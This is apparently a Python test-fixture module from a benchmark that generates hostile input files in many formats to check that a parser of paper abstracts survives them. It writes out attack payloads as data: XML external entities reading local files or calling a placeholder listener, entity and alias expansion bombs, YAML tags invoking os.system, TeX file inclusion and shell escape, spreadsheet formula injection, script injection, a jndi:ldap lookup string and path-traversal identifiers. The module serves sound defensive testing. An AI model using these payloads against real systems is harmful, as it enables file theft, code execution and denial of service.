"""Hostile inputs, second half: formats of data and mark-up, and texts that are hard on cleaners and finders.

`{trap}` stands for the address of a listener that nobody may call.
"""

from __future__ import annotations

import io
import json
import struct
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from benchmarks.hostile_files import ENTRY, LINE, MIB, PROSE, SECRET_FILE, Make, lines, put, zipped

TRAP = "{trap}"
SECRET = "{secret}"


def record(**fields: object) -> bytes:
    """One JSON line."""
    return (json.dumps(ENTRY | fields) + "\n").encode()


def abstract(text: str) -> bytes:
    return record(abstract=text)


def jsons() -> dict[str, Make]:
    return {
        "deep-lists": put("x.json", "[" * 200_000),
        "deep-objects": put("x.json", '{"a":' * 100_000 + "1" + "}" * 100_000),
        "deep-in-a-record": put("x.jsonl", LINE[:-2] + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}\n" + LINE),
        "cut": put("x.json", json.dumps([ENTRY] * 20)[:-150]),
        "trailing-comma": put("x.json", "[" + json.dumps(ENTRY) + ",]"),
        "two-documents": put("x.json", json.dumps([ENTRY]) + json.dumps([ENTRY])),
        "nan": put("x.jsonl", b'{"abstract": "' + PROSE.encode() * 2 + b'", "year": NaN, "doi": Infinity, "authors": -Infinity}\n'),
        "duplicate-keys": put("x.jsonl", b'{"abstract": "' + PROSE.encode() * 2 + b'", "abstract": "' + PROSE.encode()[::-1] * 2 + b'"}\n'),
        "lone-surrogates": put("x.jsonl", b'{"title": "\\ud800", "abstract": "' + PROSE.encode() * 2 + b' \\udfff\\ud800 x", "\\udc00": "\\ud8ff"}\n'),
        "nul-escapes": put("x.jsonl", b'{"title": "a\\u0000b", "abstract": "' + PROSE.encode() * 2 + b' \\u0000\\u0007\\u001b[2J"}\n'),
        "digits-of-5-million": put("x.jsonl", lambda: b'{"abstract": "' + PROSE.encode() * 2 + b'", "year": ' + b"9" * 5_000_000 + b"}\n"),
        "exponent": put("x.jsonl", record().replace(b"}", b', "year": 1e999999999, "arxiv_version": -1e-99999}')),
        "wrong-types": put("x.jsonl", record(title={"a": [1]}, authors=7, year="MMXX", keywords={"k": None}, doi=[[]], abstract=PROSE * 2)),
        "abstract-of-other-types": put("x.jsonl", b"".join(record(abstract=value) for value in (None, 1, True, [], {}, [[PROSE]], {"en": PROSE * 2}))),
        "scalars": put("x.jsonl", b'1\n"x"\nnull\ntrue\n[]\n{}\n'),
        "million-keys": put("x.json", lambda: json.dumps(ENTRY | {f"k{n}": n for n in range(300_000)})),
        "long-key": put("x.json", json.dumps({"k" * MIB: 1} | ENTRY)),
        "proto": put("x.jsonl", record(__proto__={"a": 1}, __class__="os.system", constructor="x")),
        "cr-only": put("x.jsonl", LINE.replace(b"\n", b"\r") * 3),
        "unclosed-string": put("x.jsonl", LINE + b'{"abstract": "We never end\n' + LINE),
        "python-literal": put("x.json", repr([ENTRY])),
        "invalid-utf8": put("x.jsonl", LINE[:60] + b"\xff\xfe\x80" + LINE[60:] + LINE),
    }


def csvs() -> dict[str, Make]:
    head = "title,abstract\n"
    row = f'Bridges of oak,"{PROSE * 2}"\n'
    return {
        "unclosed-quote": put("x.csv", head + row + 'Bad,"never closed\n' + row * 300),
        "million-columns": put("x.csv", lambda: ("title,abstract" + ",c" * 500_000 + "\n" + row).encode()),
        "no-head": put("x.csv", row * 3),
        "head-twice": put("x.csv", f"title,abstract,abstract\na,{PROSE.replace(',', '')},{PROSE.replace(',', '')[::-1]}\n"),
        "head-only": put("x.csv", head),
        "ragged": put("x.csv", head + row + "a\n" + "a,b,c,d,e\n" + row),
        "nuls": put("x.csv", (head + row).replace(" ", "\x00")),
        "formulas": put("x.csv", f'title,abstract\n"=cmd|\'/c calc\'!A1","=HYPERLINK(""{TRAP}"",""x"") {PROSE * 2}"\n@SUM(1+1),"+{PROSE * 2}"\n\t=1,"-{PROSE * 2}"\n'),
        "mixed-delimiters": put("x.csv", head + row + row.replace(",", ";") + row.replace(",", "\t")),
        "quotes-only": put("x.csv", '"' * 300_001),
        "delimiters-only": put("x.csv", "," * 300_000),
        "field-of-20-mb": put("x.csv", lambda: (head + 'T,"' + "word " * (4 * MIB) + '"\n' + row).encode()),
        "lines-in-fields": put("x.tsv", f'title\tabstract\nT\t"{PROSE}\n{PROSE}"\n'),
        "huge-number": put("x.csv", f'abstract,year\n"{PROSE * 2}",{"9" * 5000}\n'),
    }


def parquet_bytes(table: pa.Table, **options: object) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def parquets() -> dict[str, Make]:
    columns = pa.table({"title": [f"T{n}" for n in range(50)], "abstract": [line["abstract"] for line in map(json.loads, lines(50).splitlines())]})
    good = parquet_bytes(columns, compression="zstd")
    nested: pa.Array = pa.array([PROSE * 2])
    for _ in range(60):
        nested = pa.StructArray.from_arrays([nested], ["s"])
    repeated = pa.table({"abstract": pa.DictionaryArray.from_arrays(pa.array([0] * 200_000, pa.int32()), ["word " * 20_000])})
    odd = pa.table({"abstract": pa.array([PROSE.encode() * 2, b"\xff\xfe"], pa.binary()), "year": pa.array([2**62, -1])})
    return {
        "cut": put("x.parquet", good[: len(good) // 2]),
        "magic-only": put("x.parquet", b"PAR1PAR1"),
        "footer-zeroed": put("x.parquet", good[:-300] + bytes(292) + good[-8:]),
        "footer-length-huge": put("x.parquet", good[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1"),
        "footer-length-zero": put("x.parquet", good[:-8] + bytes(4) + b"PAR1"),
        "pages-damaged": put("x.parquet", good[:100] + b"\xff" * 400 + good[500:]),
        "flipped": put("x.parquet", bytes(b ^ (64 if n % 97 == 0 and n > 4 else 0) for n, b in enumerate(good))),
        "encrypted-magic": put("x.parquet", b"PARE" + good[4:-4] + b"PARE"),
        "nested": put("x.parquet", parquet_bytes(pa.table({"x": nested}))),
        "bomb-by-dictionary": put("x.parquet", lambda: parquet_bytes(repeated, compression="zstd")),
        "binary-abstract": put("x.parquet", parquet_bytes(odd)),
        "no-rows": put("x.parquet", parquet_bytes(columns.slice(0, 0))),
        "no-columns": put("x.parquet", parquet_bytes(pa.table({}))),
        "10000-columns": put("x.parquet", lambda: parquet_bytes(pa.table({"abstract": [PROSE * 2]} | {f"c{n}": [n] for n in range(10_000)}))),
        "feather": put("x.arrow", b"ARROW1\x00\x00" + bytes(300) + b"ARROW1"),
    }


def _xml(inner: str, head: str = "") -> str:
    return f'<?xml version="1.0"?>{head}<records><record><title>Bridges</title><abstract>{PROSE * 2}{inner}</abstract></record></records>'


def xmls() -> dict[str, Make]:
    laughs = '<!DOCTYPE r [<!ENTITY a "lol">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
    return {
        "laughs": put("x.xml", _xml("&i;", laughs)),
        "quadratic": put("x.xml", _xml("&a;" * 20_000, f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>')),
        "entity-of-a-file": put("x.xml", _xml("&x;", f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{SECRET}">]>')),
        "entity-of-a-neighbour": put("x.xml", _xml("&x;", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{SECRET_FILE}">]>')),
        "entity-of-the-net": put("x.xml", _xml("&x;", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{TRAP}">]>')),
        "parameter-entity": put("x.xml", _xml("", f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{TRAP}">%p;]>')),
        "foreign-dtd": put("x.xml", _xml("", f'<!DOCTYPE records SYSTEM "{TRAP}/x.dtd">')),
        "xinclude": put("x.xml", _xml(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET_FILE}" parse="text"/>')),
        "stylesheet": put("x.xml", _xml("", f'<?xml-stylesheet type="text/xsl" href="{TRAP}"?>')),
        "schema-location": put("x.xml", _xml("").replace("<records>", f'<records xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="{TRAP}">')),
        "deep": put("x.xml", _xml("<i>" * 100_000 + "x" + "</i>" * 100_000)),
        "deep-and-open": put("x.xml", "<a>" * 300_000),
        "huge-attribute": put("x.xml", lambda: _xml("").replace("<record>", f'<record a="{"x" * (20 * MIB)}">').encode()),
        "million-attributes": put("x.xml", _xml("").replace("<record>", "<record " + " ".join(f'a{n}="1"' for n in range(100_000)) + ">")),
        "one-attribute-twice": put("x.xml", _xml("").replace("<record>", '<record a="1" a="2">')),
        "cut": put("x.xml", _xml("")[:-60]),
        "nul": put("x.xml", _xml("\x00")),
        "unknown-entity": put("x.xml", _xml("&nbsp;&evil;")),
        "unclosed-cdata": put("x.xml", _xml("<![CDATA[ x")),
        "junk-behind": put("x.xml", _xml("") + "junk" * 100 + _xml("")),
    }


def htmls() -> dict[str, Make]:
    def page(inner: str, head: str = "") -> str:
        return f"<!doctype html><html><head><title>Bridges</title>{head}</head><body><h1>Bridges</h1><h2>Abstract</h2><p>{PROSE * 2}{inner}</p></body></html>"

    return {
        "script": put("x.html", page(f'<script>fetch("{TRAP}")</script><img src=x onerror="alert(1)"><svg onload=alert(1)>')),
        "refresh": put("x.html", page("", f'<meta http-equiv=refresh content="0;url={TRAP}"><base href="{TRAP}"><link rel=import href="{TRAP}">')),
        "frames": put("x.html", page(f'<iframe src="{TRAP}"></iframe><object data="file:///etc/passwd"></object>')),
        "deep": put("x.html", page("<div>" * 100_000 + "x")),
        "deep-inline": put("x.html", page("<b><i>" * 30_000)),
        "unclosed": put("x.html", page("<p <b <!-- <![CDATA[ <a href='")),
        "comment-without-end": put("x.html", page("<!--" * 50_000)),
        "less-thans": put("x.html", page("<" * 300_000)),
        "entities": put("x.html", page("&" * 100_000 + "&#xffffffff;&#99999999999;&#0;&#xd800;")),
        "charset-lies": put("x.html", page("é", "<meta charset=utf-16>").encode("cp1252")),
        "huge-meta": put("x.html", page("", f'<meta name="citation_abstract" content="{PROSE * 20_000}">')),
        "attributes": put("x.html", page("<p " + "a=b " * 200_000 + ">")),
    }


def yamls() -> dict[str, Make]:
    entry = f"- title: Bridges\n  abstract: >\n    {PROSE * 2}\n"
    alias = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    return {
        "python-tag": put("x.yaml", entry + '- abstract: !!python/object/apply:os.system ["touch TRIPPED"]\n'),
        "python-name": put("x.yaml", entry + "- !!python/object/new:subprocess.Popen [[touch, TRIPPED]]\n"),
        "alias-bomb": put("x.yaml", alias + f"abstract: {PROSE}\n"),
        "alias-loop": put("x.yaml", "&a [*a]\n"),
        "merge-bomb": put("x.yaml", "a: &a {x: 1}\n" + "".join(f"b{n}: &b{n} {{<<: [*a, *a, *a]}}\n" for n in range(3000))),
        "deep": put("x.yaml", "[" * 20_000),
        "deep-block": put("x.yaml", "".join(" " * n + "- \n" for n in range(1500))),
        "tabs": put("x.yaml", entry.replace("  ", "\t")),
        "front-matter": put("x.md", f'---\ntitle: !!python/name:os.system\nabstract: |\n  {PROSE}\n---\n\n# Abstract\n\n{PROSE * 2}\n'),
        "many-documents": put("x.yaml", "---\n" * 20_000 + entry),
        "toml-cut": put("x.toml", f'[[paper]]\ntitle = "Bridges"\nabstract = """{PROSE}'),
    }


def texs() -> dict[str, Make]:
    def document(inner: str, head: str = "") -> Make:
        return put("x.tex", f"\\documentclass{{article}}{head}\\title{{Bridges}}\\begin{{document}}\\begin{{abstract}}\n{PROSE * 2}{inner}\n\\end{{abstract}}\\end{{document}}\n")

    return {
        "input": document(f"\\input{{{SECRET_FILE}}}\\include{{/etc/passwd}}\\openin5={SECRET_FILE}\\verbatiminput{{{SECRET_FILE}}}\\write18{{touch TRIPPED}}"),
        "recursion": document("\\a", "\\newcommand{\\a}{\\a\\a}\\def\\b{\\a}"),
        "doubling": document("\\z", "".join(f"\\newcommand{{\\{b}}}{{\\{a}\\{a}\\{a}}}" for a, b in zip("xabcdefghijklmnopq", "abcdefghijklmnopqz", strict=True))),
        "braces": document("{" * 100_000 + "}" * 100_000),
        "open-braces": document("{" * 200_000),
        "close-braces": document("}" * 200_000),
        "accents": document("\\'{" * 50_000),
        "emphases": document("\\textbf{\\emph{" * 30_000 + "x"),
        "fractions": document("$" + "\\frac{1}{" * 20_000 + "2" + "}" * 20_000 + "$"),
        "scripts": document("$x" + "^{x_{" * 20_000 + "$"),
        "dollars": document("$" * 200_001),
        "backslashes": document("\\" * 200_001),
        "environments": document("\\begin{itemize}" * 30_000),
        "catcode": document("\\catcode`\\@=11 \\expandafter\\csname x\\endcsname \\loop\\iftrue\\repeat"),
        "never-ends": put("x.tex", "\\begin{abstract}" + PROSE * 2),
        "verb": document("\\verb|" + "x" * 200_000),
        "in-json": put("x.jsonl", abstract(PROSE + "\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a" + "{\\bf " * 20_000)),
    }


BOMBS = [
    *("a", "A", "(", ")", "[", "]", "*", "_", "$", "<", ">", "&", "#", "~", "^", "`", "'", '"', "|", "1", ",", ".", "-", "–", "=", "@", "\\", "%", " \n", "\u0301", "\u200d", "Aa", "a-"),
    *("http://", "www.", "a.b", "and ", "1,000", "1.", "1e", "±1", "[](", "![", "**a", "__a", "](", "\\(", "\\[", "$$", "&amp;", "&amp;amp;", "<b>", "</b>", "<!--", "{\\", "\\begin{a}", "10.1000/", "arXiv:1", "A (", "A (AB) ", "of the ", "-1 ", "1% ", "Abstract: ", "doi:", "github.com/", "ﬁ", "Ã©", "í¯", "x_{", "x^"),
]


def bombs() -> dict[str, Make]:
    """Long runs of whatever starts a pattern: a few a file, each of them a record."""
    size = 120_000
    return {
        f"runs-{n // 4}": put("x.jsonl", b"".join(abstract(f"{PROSE}{part * (size // len(part))} {PROSE}") for part in BOMBS[n : n + 4]))
        for n in range(0, len(BOMBS), 4)
    }


def office() -> dict[str, Make]:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
    evil = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{SECRET}">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    return {
        "xlsx-empty": put("x.xlsx", zipped([("[Content_Types].xml", types)])),
        "xlsx-far-cell": put("x.xlsx", zipped([("[Content_Types].xml", types), ("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", sheet.format('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').encode())])),
        "xlsx-bomb": put("x.xlsx", lambda: zipped([("[Content_Types].xml", types), ("xl/worksheets/sheet1.xml", bytes(100 * MIB))])),
        "docx-entity": put("x.docx", zipped([("[Content_Types].xml", types), ("word/document.xml", evil.encode())])),
        "xlsx-cut": put("x.xlsx", zipped([("[Content_Types].xml", types), ("xl/workbook.xml", b"<workbook/>")])[:-30]),
        "odt": put("x.odt", zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a>" * 100_000)])),
    }


def tagged() -> dict[str, Make]:
    bib = f"@article{{oak, title = {{Bridges}}, abstract = {{{PROSE * 2}}}}}\n"
    return {
        "bib-unclosed": put("x.bib", bib + "@article{bad, abstract = {never closed\n" + bib),
        "bib-braces": put("x.bib", bib + "@article{b, abstract = " + "{" * 200_000),
        "bib-macros": put("x.bib", '@string{a = "xxxxxxxxxx"}' + "".join(f"@string{{{b} = {a} # {a} # {a}}}" for a, b in zip("abcdefghijklmnopq", "bcdefghijklmnopqr", strict=True)) + "@article{k, title = r, abstract = {" + PROSE * 2 + "}}"),
        "ris-without-end": put("x.ris", f"TY  - JOUR\nTI  - Bridges\nAB  - {PROSE * 2}\n" * 3),
        "medline-cut": put("x.nbib", f"PMID- 1\nTI  - Bridges\nAB  - {PROSE}\n      {PROSE}"),
        "markdown-links": put("x.md", f"# Bridges\n\n## Abstract\n\n{PROSE * 2}[click](javascript:alert(1)) ![x]({TRAP}/x.png) <javascript:alert(2)> [y](data:text/html,<script>)\n"),
        "markdown-quotes": put("x.md", "# Bridges\n\n## Abstract\n\n" + "> " * 50_000 + PROSE),
    }


SCRIPTS = "قياس متانة الجسور الخشبية في الشتاء; 我们研究冬天里橡木桥的强度; Мы изучаем прочность мостов; हम पुलों की मजबूती; 私たちは橋の強度を; 다리의 강도를; אנו חוקרים גשרים; Μελετάμε γέφυρες; เราศึกษาสะพาน; නුවර; ᚠᛇᚻ; 𝔄𝔅; 👩‍👩‍👧‍👦🇫🇷"


def content() -> dict[str, Make]:
    zalgo = "Z" + "\u0301\u0316\u0489" * 100_000
    return {
        "formulas": put("x.jsonl", b"".join(record(title=f"{sign}cmd|' /C calc'!A0", abstract=f"{sign}HYPERLINK {PROSE * 2}{sign}") for sign in "=+-@\t\r'")),
        "ansi": put("x.jsonl", record(title="\x1b]0;owned\x07\x1b[2J", abstract=f"{PROSE}\x1b[31mred\x1b[0m\x9b31m {PROSE}", authors=["\x1b[5mblink"])),
        "bidi": put("x.jsonl", record(title="\u202egpj.exe", abstract=f"{PROSE}\u202e\u2066 abc \u2069\u202c {PROSE}", authors=["\u2067x"])),
        "invisible": put("x.jsonl", abstract(f"{PROSE}\u200b\u200c\u2060\ufeff\u00ad\u034f\U000e0041 {PROSE}")),
        "nuls": put("x.txt", f"Title: B\n\nAbstract: {PROSE}\x00{PROSE}"),
        "html": put("x.jsonl", record(title="<script>alert(1)</script>", abstract=f"{PROSE}<img src=x onerror=alert(1)></script><script>alert(2)</script>--></style> {PROSE}", venue='"><svg/onload=alert(1)>')),
        "markdown": put("x.jsonl", record(title="[x](javascript:alert(1))", abstract=f"{PROSE}[a](javascript:alert(1)) ![b]({TRAP}) | `x` | \n# head {PROSE}", venue="a | b\n---")),
        "template": put("x.jsonl", record(title="{{7*7}} ${7*7} %(x)s {0} {x.__class__}", abstract=f"{{{{config}}}} ${{jndi:ldap://127.0.0.1/a}} %s%n {PROSE * 2}")),
        "token-of-1-mb": put("x.jsonl", abstract(f"{PROSE}{'xY9' * 350_000} {PROSE}")),
        "digits-of-5-million": put("x.jsonl", lambda: abstract(f"{PROSE}accuracy of {'9' * 5_000_000}% {PROSE}")),
        "scripts": put("x.jsonl", b"".join(abstract(part * 8) for part in SCRIPTS.split(";"))),
        "zalgo": put("x.jsonl", abstract(f"{PROSE}{zalgo} {PROSE}")),
        "nonsense-code-points": put("x.jsonl", abstract(f"{PROSE}\ufffe\uffff\U0010ffff\ue000\u0378 {PROSE}")),
        "yaml-in-fields": put("x.jsonl", record(title="---\nlicense: mit\n---", venue="!!python/object/apply:os.system [x]", licence="x\n---\nconfigs: []")),
        "urls": put("x.jsonl", abstract(f"{PROSE}{TRAP} http://user:pw@127.0.0.1:1/ http://[::1]/ file:///etc/passwd javascript:alert(1) http://xn--a.com/\u202e http://{'a' * 100_000}.com {PROSE}")),
        "many-urls": put("x.jsonl", abstract(PROSE + " ".join(f"https://a{n}.org/{n}" for n in range(3000)))),
        "many-names": put("x.jsonl", abstract(PROSE + " ".join(f"We propose Foo{n}Net (FN{n}) on CIFAR-{n} with {n}.5% accuracy." for n in range(1500)))),
        "paths-as-ids": put("x.jsonl", record(id="../../../../escaped", doi="10.1/../../x", arxiv_id="../../1", url="file:///etc/passwd", source_id="/etc/passwd")),
    }


TEXT_GROUPS: dict[str, Callable[[], dict[str, Make]]] = {
    "json": jsons, "csv": csvs, "parquet": parquets, "xml": xmls, "html": htmls, "yaml": yamls, "tex": texs, "patterns": bombs, "office": office, "tagged": tagged, "content": content,
}  # fmt: skip


def fill(folder: Path, trap: str, secret: Path) -> None:
    """Put the address of the trap and the path of the secret into the files that were written."""
    for path in folder.iterdir():
        if path.is_symlink() or not path.is_file() or path.stat().st_size > MIB:
            continue
        content = path.read_bytes()
        filled = content.replace(TRAP.encode(), trap.encode()).replace(SECRET.encode(), str(secret).encode())
        if filled != content:
            path.write_bytes(filled)
